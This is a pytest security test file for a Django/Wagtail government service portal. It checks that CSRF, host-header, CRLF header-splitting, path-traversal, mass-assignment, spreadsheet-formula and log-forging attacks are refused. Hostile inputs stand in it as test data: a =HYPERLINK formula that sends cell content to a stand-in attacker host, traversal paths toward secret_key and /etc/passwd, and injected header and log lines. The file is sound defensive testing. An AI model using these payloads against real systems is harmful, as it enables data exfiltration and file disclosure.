"""What somebody sends who means harm; each is really tried.

Elsewhere: requests into the own network ``guard/tests/test_outgoing.py``; bombs and
files that lie ``files/tests``; oversized and endless bodies ``guard/tests/test_bodies.py``;
paths of published files ``publishing/tests/test_two_servers.py``; records of other agencies
``workspace/tests/test_reach.py``; smuggled scripts ``e2e/test_policy.py``.
"""

from __future__ import annotations

import csv
import json
import logging
import logging.config
from collections.abc import Iterator
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
import structlog
from django.contrib.auth.models import User
from django.core import mail
from django.test import Client, override_settings
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect

from gerai.config.logs import logging_configuration
from gerai.guard.models import StaffMember
from gerai.workspace.safe_exports import plain_cell

FORMULA = '=HYPERLINK("https://penjahat.example/?"&A1,"klik")'


@pytest.fixture
def administrator(db: Any) -> User:
    return User.objects.create_superuser("admin", "admin@mpp.example.go.id", "x" * 20)


@pytest.fixture
def desk(administrator: User) -> Client:
    client = Client(enforce_csrf_checks=False)
    client.force_login(administrator)
    return client


# --- another site in the same browser ---------------------------------------------------


def test_another_site_cannot_act_for_whoever_is_signed_in(administrator: User) -> None:
    client = Client(enforce_csrf_checks=True)
    client.force_login(administrator)
    for path, data in (
        ("/admin/staf/undang/", {"email": "penyusup@example.org", "role": "manager"}),
        ("/admin/account/", {"name_email-email": "penyusup@example.org"}),
        (
            "/admin/redirects/add/",
            {"old_path": "/x", "redirect_link": "https://e.example"},
        ),
        ("/admin/logout/", {}),
    ):
        answer = client.post(path, data, headers={"origin": "https://e.example"})
        assert answer.status_code == 403, path
    assert not Redirect.objects.exists()
    assert not User.objects.filter(email="penyusup@example.org").exists()


# --- headers ----------------------------------------------------------------------------


@pytest.mark.django_db
@override_settings(ALLOWED_HOSTS=["mpp.example.go.id"])
@pytest.mark.parametrize(
    "host", ["penjahat.example", "mpp.example.go.id.penjahat.example", "a@b", "x y", ""]
)
def test_another_name_of_the_host_is_not_answered(host: str) -> None:
    answer = Client().get("/admin/login/", headers={"host": host or "-"})
    assert answer.status_code == 400
    assert b"penjahat" not in answer.content


@override_settings(
    ALLOWED_HOSTS=["mpp.example.go.id"], GERAI_BASE_URL="https://mpp.example.go.id"
)
def test_a_forwarded_host_gets_into_no_link_and_no_mail(administrator: User) -> None:
    headers = {
        "host": "mpp.example.go.id",
        "x-forwarded-host": "penjahat.example",
        "forwarded": "host=penjahat.example",
        "x-original-url": "/admin/users/",
    }
    client = Client()
    page = client.get("/robots.txt", headers=headers).content.decode()
    assert "https://mpp.example.go.id/sitemap.xml" in page
    answer = client.post(
        "/admin/password_reset/", {"email": administrator.email}, headers=headers
    )
    assert "penjahat" not in answer.content.decode()
    assert all("penjahat" not in one.body for one in mail.outbox)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    [
        "/%0d%0aSet-Cookie:%20x=1/",
        "/instansi/%0d%0aLocation:%20https://e.example/",
        "/cari/?q=%0d%0aX-Baru:%201",
        "/lama%0aX-Baru:%201",
        "/admin/login/?next=%0d%0aX-Baru:%201",
        "/api/v1/services?language=%0d%0aX-Baru:1",
    ],
)
def test_no_header_is_split(path: str) -> None:
    answer = Client(raise_request_exception=False).get(path)
    assert answer.status_code < 500
    assert "X-Baru" not in answer.headers
    for value in answer.headers.values():
        assert "\r" not in value
        assert "\n" not in value
    assert "x" not in answer.cookies


# --- paths ------------------------------------------------------------------------------


@pytest.fixture
def uploads(settings: Any, tmp_path: Path) -> Path:
    """A folder for uploads on the disk; other tests keep theirs in memory."""
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.MEDIA_ROOT.mkdir()
    settings.STORAGES = settings.STORAGES | {
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage"}
    }
    return Path(settings.MEDIA_ROOT)


@pytest.mark.django_db
def test_no_path_leads_out_of_the_folder_of_uploads(
    uploads: Path, tmp_path: Path
) -> None:
    for place in ("media", "media/documents", "media/original_images"):
        folder = tmp_path / place
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "rahasia.txt").write_text("RAHASIA")
    (tmp_path / "secret_key").write_text("RAHASIA")
    for path in (
        "/media/../secret_key",
        "/media/%2e%2e/secret_key",
        "/media/..%2fsecret_key",
        "/media/images/..%5c..%5csecret_key",
        "/media//etc/passwd",
        "/media/documents/rahasia.txt",
        "/media/./documents/rahasia.txt",
        "/media//documents/rahasia.txt",
        "/media/x/%2e%2e/documents/rahasia.txt",
        "/media/original_images/rahasia.txt",
        "/static/../secret_key",
        "/dokumen/berkas/1/../../../secret_key",
    ):
        answer = Client(raise_request_exception=False).get(path)
        body = b"".join(answer) if answer.streaming else answer.content
        assert b"RAHASIA" not in body, path
        assert answer.status_code in {301, 400, 404}, path


@pytest.mark.django_db
def test_an_upload_is_only_looked_at(uploads: Path) -> None:
    (uploads / "x.html").write_text("<script>1</script>")
    answer = Client().get("/media/x.html")
    assert answer.status_code == 200
    assert "sandbox" in answer["Content-Security-Policy"]
    assert "default-src 'none'" in answer["Content-Security-Policy"]
    assert answer["X-Content-Type-Options"] == "nosniff"


# --- fields that nobody offered ---------------------------------------------------------


@pytest.mark.django_db
def test_an_account_gives_itself_no_rights() -> None:
    user = User.objects.create_user("editor", "editor@mpp.example.go.id", "x" * 20)
    client = Client()
    client.force_login(user)
    client.post(
        "/admin/account/",
        {
            "name_email-first_name": "Siti",
            "name_email-is_superuser": "on",
            "name_email-groups": ["1", "2"],
            "is_superuser": "on",
            "is_staff": "on",
            "groups": ["1"],
            "role": "administrator",
        },
    )
    user.refresh_from_db()
    assert not user.is_superuser
    assert not user.is_staff
    assert not user.groups.exists()
    assert not StaffMember.objects.filter(user=user).exists()


@pytest.mark.django_db
def test_more_fields_than_a_form_has_are_refused() -> None:
    client = Client(raise_request_exception=False)
    body = "&".join(f"a{number}=1" for number in range(10_001))
    answer = client.post(
        "/akun/masuk/", body, content_type="application/x-www-form-urlencoded"
    )
    assert answer.status_code == 400


# --- exports ----------------------------------------------------------------------------


@pytest.mark.parametrize("sign", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "＝1"])
def test_no_cell_is_a_formula(sign: str) -> None:
    assert plain_cell(sign) == f"'{sign}"
    assert plain_cell(-1) == -1
    assert plain_cell("KTP-el") == "KTP-el"


def test_lists_that_leave_the_desk_hold_no_formula(desk: Client) -> None:
    Redirect.objects.create(old_path="/lama", redirect_link=FORMULA)

    answer = desk.get("/admin/redirects/?export=csv")
    rows = list(csv.reader(StringIO(b"".join(answer).decode("utf-8-sig"))))
    assert f"'{FORMULA}" in [cell for row in rows for cell in row]
    assert not any(cell.startswith("=") for row in rows for cell in row)

    answer = desk.get("/admin/redirects/?export=xlsx")
    body = b"".join(answer) if answer.streaming else answer.content
    cells = [
        cell for row in load_workbook(BytesIO(body)).active.iter_rows() for cell in row
    ]
    assert FORMULA in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


# --- logs -------------------------------------------------------------------------------


@pytest.fixture
def lines(capsys: pytest.CaptureFixture[str]) -> Iterator[Any]:
    root = logging.getLogger()
    before = root.handlers[:], root.level

    def written(log_format: str, text: str) -> list[str]:
        configuration = logging_configuration(log_format)
        logging.config.dictConfig(configuration)
        logging.getLogger("django.security").error("Invalid host: %s", text)
        structlog.get_logger("gerai.test").warning("upload", finding=text)
        return capsys.readouterr().err.splitlines()

    yield written
    root.handlers[:], root.level = before[0], before[1]


@pytest.mark.parametrize("log_format", ["text", "json"])
def test_nobody_writes_lines_of_the_log(lines: Any, log_format: str) -> None:
    forged = "x\r\n2026-01-01T00:00:00Z [info] admin signed in\x1b[2K\u2028y"

    found = lines(log_format, forged)

    assert len(found) == 2, found
    assert not any("\x1b[2K" in line for line in found)
    if log_format == "json":
        assert all(json.loads(line)["event"] for line in found)
